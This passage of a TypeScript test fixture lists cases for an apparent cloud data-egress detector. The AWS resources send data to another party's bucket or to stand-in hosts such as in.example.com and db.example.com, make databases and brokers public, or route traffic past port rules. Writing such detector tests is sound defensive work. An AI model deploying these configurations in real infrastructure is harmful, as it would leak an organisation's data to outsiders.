    'Added',
    'in.example.com',
  ),
  added(
    'a rule of IoT into a bucket of somebody',
    'delivery',
    'AWS::IoT::TopicRule',
    { TopicRulePayload: { Actions: [{ S3: { BucketName: 'theirs', Key: 'x' } }] } },
    'Actions.0.S3.BucketName',
    'bucket theirs',
  ),
  added(
    'topics replicated',
    'replication',
    'AWS::MSK::Replicator',
    { KafkaClusters: [{ AmazonMskCluster: { MskClusterArn: elsewhere('kafka', 'cluster/x/1') } }] },
    'KafkaClusters.0',
    ELSEWHERE,
  ),
  added(
    'brokers with addresses of the internet',
    'public-url',
    'AWS::MSK::Cluster',
    {
      BrokerNodeGroupInfo: {
        ClientSubnets: [ref('Service')],
        ConnectivityInfo: { PublicAccess: { Type: 'SERVICE_PROVIDED_EIPS' } },
      },
    },
    'everybody',
    'SERVICE_PROVIDED_EIPS',
    'Added',
  ),
  added(
    'a notebook on the internet',
    'function',
    'AWS::SageMaker::NotebookInstance',
    {},
    'DirectInternetAccess',
    'internet',
  ),
  added(
    'a model outside of the VPC',
    'function',
    'AWS::SageMaker::Model',
    { PrimaryContainer: { ModelDataUrl: 's3://weights-of-ours/m.tar.gz' } },
    'Added',
    'internet',
  ),
  added(
    'requests captured into a bucket of somebody',
    'delivery',
    'AWS::SageMaker::EndpointConfig',
    { DataCaptureConfig: { DestinationS3Uri: 's3://theirs/capture' } },
    'DataCaptureConfig.DestinationS3Uri',
    'bucket theirs',
  ),
  added(
    'a stream to a vendor',
    'delivery',
    'AWS::KinesisFirehose::DeliveryStream',
    { SplunkDestinationConfiguration: { HECEndpoint: 'https://hec.example.com:8088' } },
    'HECEndpoint',
    'hec.example.com',
  ),
  added(
    'a backup of a stream',
    'delivery',
    'AWS::KinesisFirehose::DeliveryStream',
    { IcebergDestinationConfiguration: { S3Configuration: { BucketARN: 'arn:aws:s3:::theirs' } } },
    'IcebergDestinationConfiguration.S3Configuration.BucketARN',
    'theirs',
  ),
  added(
    'a destination of EventBridge',
    'delivery',
    'AWS::Events::ApiDestination',
    { InvocationEndpoint: 'https://in.example.com/*', HttpMethod: 'POST' },
    'InvocationEndpoint',
    'in.example.com',
  ),
  added(
    'a pipe to another account',
    'delivery',
    'AWS::Pipes::Pipe',
    { Source: ref('Queue'), Target: foreign('sqs', 'q') },
    'Target',
    FOREIGN,
  ),
  added(
    'a database task into a bucket of somebody',
    'delivery',
    'AWS::DMS::Endpoint',
    { EndpointType: 'target', S3Settings: { BucketName: 'theirs' } },
    'S3Settings.BucketName',
    'bucket theirs',
  ),
  added(
    'a database task to a host',
    'delivery',
    'AWS::DMS::Endpoint',
    { EndpointType: 'target', ServerName: 'db.example.com' },
    'ServerName',
    'db.example.com',
  ),
  added(
    'a flow into a service of somebody',
    'delivery',
    'AWS::AppFlow::Flow',
    { DestinationFlowConfigList: [{ ConnectorType: 'Salesforce' }] },
    'ConnectorType Salesforce',
    'service of Salesforce',
  ),
  added(
    'a flow into a bucket of somebody',
    'delivery',
    'AWS::AppFlow::Flow',
    {
      DestinationFlowConfigList: [
        { ConnectorType: 'S3', DestinationConnectorProperties: { S3: { BucketName: 'theirs' } } },
      ],
    },
    'bucket theirs',
  ),
  added(
    'files synced to a share',
    'delivery',
    'AWS::DataSync::LocationNFS',
    { ServerHostname: 'nfs.example.com', Subdirectory: '/' },
    'nfs.example.com',
  ),
  added(
    'files synced to a bucket of somebody',
    'delivery',
    'AWS::DataSync::LocationS3',
    { S3BucketArn: 'arn:aws:s3:::theirs' },
    'S3BucketArn',
    'bucket theirs',
  ),
  added(
    'a job outside of the VPC',
    'function',
    'AWS::Glue::Job',
    { Command: { Name: 'glueetl' } },
    'Added',
    'internet',
  ),
  added(
    'a connection to a database elsewhere',
    'delivery',
    'AWS::Glue::Connection',
    { ConnectionInput: { ConnectionProperties: { JDBC_CONNECTION_URL: 'jdbc:mysql://db.example.com:3306/x' } } },
    'db.example.com',
  ),
  added(
    'a table in a bucket of somebody',
    'delivery',
    'AWS::Glue::Table',
    { TableInput: { StorageDescriptor: { Location: 's3://theirs/t/' } } },
    'bucket theirs',
  ),
  added(
    'backups of a database in another region',
    'replication',
    'AWS::RDS::DBInstance',
    { AutomaticBackupReplicationRegion: ELSEWHERE },
    'AutomaticBackupReplicationRegion',
    ELSEWHERE,
  ),
  added(
    'a database on the internet',
    'public-url',
    'AWS::RDS::DBInstance',
    { PubliclyAccessible: true },
    'everybody',
    'PubliclyAccessible',
  ),
  added('a database of every region', 'replication', 'AWS::RDS::GlobalCluster', {}, 'Added', 'any region'),
  added('messages into a chat', 'message', 'AWS::Chatbot::SlackChannelConfiguration', {}, 'Slack'),
  added('a server for files', 'public-url', 'AWS::Transfer::Server', {}, 'everybody', 'EndpointType', 'Added'),
  leak(
    'a role that makes jobs for others',
    'role',
    (sealed) => {
      sealed.set('EngineRole', 'AssumeRolePolicyDocument.Statement.0.Principal', { Service: 'glue.amazonaws.com' });
      sealed.set('Association', 'RoleArn', ref('Nobody'));
      sealed.allow('glue:Create*', '*');
    },
    'glue.amazonaws.com',
    'glue:CreateJob',
    'called from outside of any VPC',
  ),
];

/** What passes at some ports alone. */
const atPorts: readonly Leak[] = [
  leak(
    'a route at the port that a NetworkPolicy opens',
    'nat-gateway',
    (sealed) => {
      sealed.route('NatGatewayId', 'nat-0123');
      sealed.set('NodeGroupSg', 'SecurityGroupEgress', [
        { IpProtocol: 'tcp', FromPort: 400, ToPort: 500, CidrIp: '0.0.0.0/0' },
      ]);
    },
    PODS,
    'NetworkPolicy serving/engine (TCP 443)',
    'SecurityGroupEgress.0 0.0.0.0/0 (TCP 400-500)',
    'internet',
  ),
  leak(
    'a route past an entry that denies another port',
    'nat-gateway',
    (sealed) => {
      sealed.route('NatGatewayId', 'nat-0123');
      acl(sealed, { RuleAction: 'deny', Protocol: 6, PortRange: { From: 22, To: 22 }, RuleNumber: 1 });
    },
    PODS,
    'network ACL sealed/Acl',
    'internet',
  ),
];

/** A network ACL of nodes with an entry before the one that allows everything. */
export function acl(sealed: Sealed, entry: Mutable): void {
  const base = { NetworkAclId: ref('Acl'), Egress: true, CidrBlock: '0.0.0.0/0' };
  sealed.add(
    'AWS::EC2::SubnetNetworkAclAssociation',
    { SubnetId: ref('Nodes'), NetworkAclId: ref('Acl') },
    'AclOfNodes',
  );
  sealed.add('AWS::EC2::NetworkAcl', {}, 'Acl');
  sealed.add('AWS::EC2::NetworkAclEntry', { ...base, ...entry }, 'AclFirst');
  sealed.add('AWS::EC2::NetworkAclEntry', { ...base, RuleNumber: 9, Protocol: -1, RuleAction: 'allow' }, 'AclAll');
}

function setData(sealed: Sealed, text: string, file = 'prometheus.yaml'): void {
  sealed.object('ConfigMap', 'door')['data'] = { [file]: text };
}

export const LEAKS: readonly Leak[] = [
  ...routes,
  ...endpoints,
  ...principals,
  ...deliveries,
  ...inCluster,
  ...more,
  ...clients,
  ...rest,
  ...encoded,
  ...movers,
  ...atPorts,
];
